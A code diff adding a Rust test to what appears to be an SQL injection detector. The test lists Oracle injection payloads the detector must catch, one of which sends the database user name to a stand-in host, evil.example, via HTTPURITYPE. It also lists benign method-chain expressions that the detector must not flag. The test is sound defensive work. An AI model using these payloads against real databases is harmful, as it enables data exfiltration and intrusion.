@@ -1075,3 +1075,18 @@ fn update_assignments_list_closes_and_negated_operands() {
         assert!(!hit(v), "flagged {v:?}");
     }
 }
+
+#[test]
+fn oracle_packages_that_reach_outside_and_methods_on_their_objects() {
+    for v in [
+        "1,UTL_INADDR.GET_HOST_NAME(user)",
+        "1,CTXSYS.DRITHSX.SN(1,user)",
+        "1 AND HTTPURITYPE('http://evil.example/'||user).GETCLOB() IS NULL",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    // methods chained on ordinary calls are program text
+    for v in ["exp(x).diff(x)", "Poly(x**2 + 1, x).rem(Poly(2*x - 4, x), auto=False)"] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
